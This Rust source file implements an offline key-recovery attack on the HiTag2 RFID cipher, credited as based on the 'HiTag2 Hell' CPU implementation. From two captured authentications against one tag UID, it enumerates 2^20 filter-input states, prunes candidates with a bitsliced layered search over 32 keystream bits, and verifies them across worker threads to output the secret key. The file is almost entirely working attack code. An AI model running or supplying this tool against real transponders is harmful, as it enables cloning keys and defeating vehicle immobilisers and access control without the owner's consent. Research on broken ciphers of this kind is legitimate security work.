// src/attacks/state_recovery.rs
//
// Attack 5: recover the key from two authentication captures by searching
// the register states that explain the first 32 keystream bits, heavily
// based on the HiTag2 Hell CPU implementation by FactorIT B.V.
//
// Layer 0 enumerates the 2^20 settings of the twenty filter-input bits
// and keeps those agreeing with the first keystream bit. The remaining
// bits are guessed in layers, 256 guesses at a time in bitslice lanes;
// after each layer the filter is evaluated for every keystream bit whose
// inputs just became known and disagreeing lanes are pruned. The register
// extends itself through the feedback taps once enough bits are fixed.
// The two low register bits feed no filter tap, so they are skipped
// during the search and reconstructed at the end by two inverse steps.

use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Mutex;
use std::thread;

use crate::bitslice::{f_a_bs, f_b_bs, f_c_bs, lane_index_slices, Bs, LANES};
use crate::error::{Error, Result};
use crate::hitag2::{filter, try_state, Hitag2State};

/// One pair of captured authentications against the same UID.
/// Nonces are in the internal bit order, responses are raw words.
#[derive(Debug, Clone, Copy)]
pub struct AuthCapture {
    pub uid: u32,
    pub nr1: u32,
    pub ar1: u32,
    pub nr2: u32,
    pub ar2: u32,
}

/// Scatter of the twenty filter-input positions.
pub const EXPAND_MASK: u64 = 0x5806_b4a2_d16c;

/// Guess widths per layer: 20 scalar bits, then 14+4+3 and five single
/// bits sliced.
pub const LAYER_BITS: [u32; 9] = [20, 14, 4, 3, 1, 1, 1, 1, 1];

/// Bits enumerated across the 256 lanes of every slice vector.
const LANE_POSITIONS: [usize; 8] = [4, 7, 9, 13, 16, 18, 22, 24];

/// Bits guessed by each inner layer. Positions 48 and 49 are the first
/// two feedback outputs, guessed here because the taps that produce them
/// include the two skipped low bits.
const LAYER_GUESSES: [&[usize]; 8] = [
    &[27, 30, 32, 35, 45, 47, 48],
    &[10, 19, 25, 36, 49],
    &[11, 20, 37],
    &[38],
    &[39],
    &[40],
    &[41],
    &[42],
];

const TAP_POSITIONS: [usize; 16] = [0, 2, 3, 6, 7, 8, 16, 22, 23, 26, 30, 41, 42, 43, 46, 47];

/// Scatter the low bits of `value` over the set bits of `mask`.
pub fn expand(mask: u64, mut value: u64) -> u64 {
    let mut fill = 0u64;
    let mut m = mask;
    let mut bit_index = 0;
    while m != 0 {
        if m & 1 == 1 {
            fill |= (value & 1) << bit_index;
            value >>= 1;
        }
        m >>= 1;
        bit_index += 1;
    }
    fill
}

/// Enumerate the layer-0 states: every setting of the filter-input bits
/// whose output matches the first keystream bit of the first response.
pub fn layer0_candidates(ar1: u32) -> Vec<u64> {
    let target = !ar1;
    let want = target >> 31;

    let mut candidates = Vec::new();
    for i0 in 0..(1u64 << LAYER_BITS[0]) {
        let state0 = expand(EXPAND_MASK, i0);
        if filter(state0) == want {
            candidates.push(state0);
        }
    }
    candidates
}

/// Verify one surviving state. `s2` is the register two steps after init;
/// roll it back and invert the initialisation against the second capture.
pub fn verify_candidate(s2: u64, auth: &AuthCapture) -> Option<u64> {
    let mut st = Hitag2State::from_state(s2);
    st.rollback(2);
    try_state(st.shiftreg, auth.uid, auth.nr1, auth.nr2, auth.ar2)
}

/// Bitsliced layered search over the layer-0 candidates.
///
/// Slice index j stands for register bit j + 2; indices 46..76 are the
/// feedback bits the register emits while producing keystream bits 1..31.
pub struct LayeredSearch {
    /// Complemented target bits; a lane survives keystream bit t while
    /// its filter output differs from bit t of the response.
    response: [Bs; 32],
    lanes: [Bs; 8],
}

const SLICES: usize = 78;

impl LayeredSearch {
    pub fn new(ar1: u32) -> Self {
        let mut response = [Bs::ZERO; 32];
        for (t, r) in response.iter_mut().enumerate() {
            *r = Bs::broadcast((ar1 >> (31 - t)) & 1 == 1);
        }
        LayeredSearch {
            response,
            lanes: lane_index_slices(),
        }
    }

    /// Run the inner enumeration for one layer-0 state, reporting every
    /// surviving register (two steps past init) to `on_match`.
    pub fn search_candidate(&self, state0: u64, on_match: &mut dyn FnMut(u64)) {
        let mut st = [Bs::ZERO; SLICES];
        for (j, slot) in st.iter_mut().enumerate().take(46) {
            *slot = Bs::broadcast((state0 >> (j + 2)) & 1 == 1);
        }
        for (b, &pos) in LANE_POSITIONS.iter().enumerate() {
            st[pos - 2] = self.lanes[b];
        }
        self.descend(&mut st, Bs::ONES, 0, on_match);
    }

    fn filter_at(st: &[Bs; SLICES], t: usize) -> Bs {
        let s = |i: usize| st[t + i - 2];
        f_c_bs(
            f_a_bs(s(2), s(3), s(5), s(6)),
            f_b_bs(s(8), s(12), s(14), s(15)),
            f_b_bs(s(17), s(21), s(23), s(26)),
            f_b_bs(s(28), s(29), s(31), s(33)),
            f_a_bs(s(34), s(43), s(44), s(46)),
        )
    }

    /// Feedback vector of the register shifted `i` times.
    fn feedback_at(st: &[Bs; SLICES], i: usize) -> Bs {
        let mut out = Bs::ZERO;
        for &tap in &TAP_POSITIONS {
            out = out ^ st[i + tap - 2];
        }
        out
    }

    fn descend(&self, st: &mut [Bs; SLICES], alive: Bs, layer: usize, on_match: &mut dyn FnMut(u64)) {
        if layer == LAYER_GUESSES.len() {
            self.final_checks(st, alive, on_match);
            return;
        }

        let guesses = LAYER_GUESSES[layer];
        let t = layer + 1;

        for g in 0..(1usize << guesses.len()) {
            for (b, &pos) in guesses.iter().enumerate() {
                st[pos - 2] = Bs::broadcast((g >> b) & 1 == 1);
            }

            let next = alive & (Self::filter_at(st, t) ^ self.response[t]);
            if next.is_zero() {
                continue;
            }

            // feedback bits that become computable after this layer
            match layer {
                1 => {
                    let fb = Self::feedback_at(st, 2);
                    st[50 - 2] = fb;
                }
                2 => {
                    for i in 3..=7 {
                        let fb = Self::feedback_at(st, i);
                        st[48 + i - 2] = fb;
                    }
                }
                3..=6 => {
                    let fb = Self::feedback_at(st, layer + 5);
                    st[53 + layer - 2] = fb;
                }
                _ => {}
            }

            self.descend(st, next, layer + 1, on_match);
        }
    }

    fn final_checks(&self, st: &mut [Bs; SLICES], mut alive: Bs, on_match: &mut dyn FnMut(u64)) {
        for t in 9..=13 {
            alive = alive & (Self::filter_at(st, t) ^ self.response[t]);
            if alive.is_zero() {
                return;
            }
        }
        for t in 14..=31 {
            let fb = Self::feedback_at(st, t - 2);
            st[t + 46 - 2] = fb;
            alive = alive & (Self::filter_at(st, t) ^ self.response[t]);
            if alive.is_zero() {
                return;
            }
        }

        for r in 0..LANES {
            if !alive.lane(r) {
                continue;
            }
            // bits 2..49 as seen from two steps in
            let mut s2 = 0u64;
            for (j, slot) in st.iter().enumerate().take(48) {
                if slot.lane(r) {
                    s2 |= 1u64 << j;
                }
            }
            on_match(s2);
        }
    }
}

/// CPU variant of the attack: stride the layer-0 candidates over worker
/// threads, verifying survivors in place.
pub fn crack(auth: &AuthCapture, threads: usize) -> Result<Option<u64>> {
    if threads == 0 {
        return Err(Error::usage("threads", "need at least one".to_string()));
    }

    let candidates = layer0_candidates(auth.ar1);
    let search = LayeredSearch::new(auth.ar1);
    let found = AtomicBool::new(false);
    let result: Mutex<Option<u64>> = Mutex::new(None);

    thread::scope(|s| {
        for t in 0..threads {
            let (candidates, search, found, result) = (&candidates, &search, &found, &result);
            s.spawn(move || {
                let mut index = t;
                while index < candidates.len() {
                    if found.load(Ordering::Acquire) {
                        return;
                    }
                    if (index / threads) % 4096 == 0 {
                        println!(
                            "thread {} candidate {}/{}",
                            t,
                            index / threads,
                            candidates.len() / threads
                        );
                    }

                    search.search_candidate(candidates[index], &mut |s2| {
                        if let Some(key) = verify_candidate(s2, auth) {
                            found.store(true, Ordering::Release);
                            let mut slot = result.lock().unwrap_or_else(|p| p.into_inner());
                            slot.get_or_insert(key);
                        }
                    });

                    index += threads;
                }
            });
        }
    });

    Ok(result.into_inner().unwrap_or_else(|p| p.into_inner()))
}
